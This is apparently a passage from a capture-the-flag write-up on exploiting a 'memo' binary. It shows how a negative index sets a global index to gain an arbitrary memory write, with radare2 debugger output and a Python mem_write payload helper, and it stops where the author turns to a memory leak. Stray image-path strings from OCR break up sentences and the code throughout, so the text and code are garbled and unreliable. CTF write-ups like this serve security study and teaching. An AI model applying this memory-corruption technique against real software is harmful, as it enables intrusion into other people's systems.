Article Index

Arbitrary Write

Putting it together, we can realize that an arbitrary memory write exists. The edit function allows you to edit the last written memo. It utilizes the global index value to track what the last written index was, and allows you to use negative indexes. What this means is, we can edit a message that never existed, and we can control the location that is being written to, thus an arbitrary write.


Step one is we want to be able to set the global index variable without causing the program to exit. Recall that if we try a negative index, it caused the program to spit out an error. However, look closely at that function:



We get the "Index too large" error, but there's a check before that. The very first block has a check to see if the index is inuse before checking if the index is too large. This means if we can select a negative index and ensure that it is non-zero, we can set our index to it. Using a debugger, we can take a peek at where this is.


[0x7f81fb542cc0]> db 0x400C8E
[0x7f81fb542cc0]> dc
Selecting and continuing: 121375
Do you wanna set password? (y/n) y
Password must be set to 32 digits or less.
Done! have a good day AAAAAAAAAAAAAAAAA

1. Leave message on memo
2. Edit message last memo
3. View memo
4. Delete memo
5. Change password
6. Quit.
>> 1
Index: -8
hit breakpoint at: 400c8e[0x00400c8e]> drr
   rax 0x0000000000602a30  (.bss) (/home/user/bkp/pwn/memo/memo) rax program ascii R W 0xa41 (A
   rbx 0x0000000000000000  r8
   rcx 0x00000000ffffffda  rcx
   rdx 0x0000000000000001  (.comment) rdx
    r8 0x0000000000000000  r8
    r9 0x1999999999999999  r9
   r10 0x0000000000000000  r8
   r11 0x00007f81fb2efa00  (/lib/x86_64-linux-gnu/ r11 library R X 'add al, byte [rax]' '' (翰< 翿翆喪喪翿翆喪喪喪翿翆翆0喪翿翆翆0喪 翿< 翿翆喪唁)
   r12 0x00000000004008a0  (.text) (/home/user/bkp/pwn/memo/memo) r12 entry0 program R X 'xor ebp, ebp' 'memo'
   r13 0x00007ffe3a0ffe40  r13 stack R W 0x1 --> (.comment) rdx
   r14 0x0000000000000000  r8
   r15 0x0000000000000000  r8
   rsi 0x0000000000000008  (.comment) rsi
   rdi 0x00007ffe3a0ffcf2  rdi stack R W 0xc4a00000000000a
   rsp 0x00007ffe3a0ffd10  rsp stack R W 0x0 --> r8
   rbp 0x00007ffe3a0ffd20  rbp stack R W 0x7ffe3a0ffd60 --> stack R W 0x401200 --> (.text) (/home/user/bkp/pwn/memo/memo) fcn.00401200 fcn.00401200 program R X 'push r15' 'memo'
   rip 0x0000000000400c8e  (.text) (/home/user/bkp/pwn/memo/memo) rip fcn.00400c52 program R X 'mov rax, qword [rax]' 'memo'
    cs 0x0000000000000033  (.comment) ascii
rflags               C1PI  rflags
  orax 0xffffffffffffffff  orax
    ss 0x000000000000002b  (.comment) ascii
fs_base 0x00007f81fb736700  (unk1) R W 0x7f81fb736700gs_base 0x0000000000000000  r8
    ds 0x0000000000000000  r8
    es 0x0000000000000000  r8
    fs 0x0000000000000000  r8
    gs 0x0000000000000000  r8


Note rax. We can see that when i use the index -8 (chosen mostly arbitrarily), the leave message function looks for theindex 16 bytes into the username. Since I didn't want to bother moving offsets around, i just stuck with this index for the rest. However, if you wanted to move it you certainly could. In fact, -10 might be a better choice as it puts the index right at the beginning of your username global.


Now that we can set the global index variable, we can use that to control a write using the edit function. However, one things that happen in the edit function is it checks the memo length array for how much to read.



We can calculate where this value will end up fairlyeasily.


hex(0x602A60 - (8*4)) == 0x602a40


So we know that 0x602a40 is actually the start of our password buffer. We now know where we must store a size value. These two pieces combined give us our arbitrary memory write. In python, I wrote it up as follows:


def mem_write(addr,value,size):
    global username
    global password# Bad chars
    if "\x0a" in p64(addr) or "\x0a" in p32(size) or "\x0a" in value:
        return False

    new_username = "A"*0x10 + p64(addr) + "\n" # Write to addr
    new_password = p32(size) + "\x00" # Number of bytes to read

    # Setup our pointers
    if not change_password(password,new_username,new_password):
        return False

    # Remember our pass
    password = new_password

    if not edit_message(value + "\n"): # Write to memory address
        return Falsereturn True


Note that I have written helper functions (such as change_password) that just wrapthose binary calls. I'm not going to go into those as they arefairly strait forward.To use this, we need to be able to remove some randomization of the binary first. Thatmeans, in this case, a memory leak.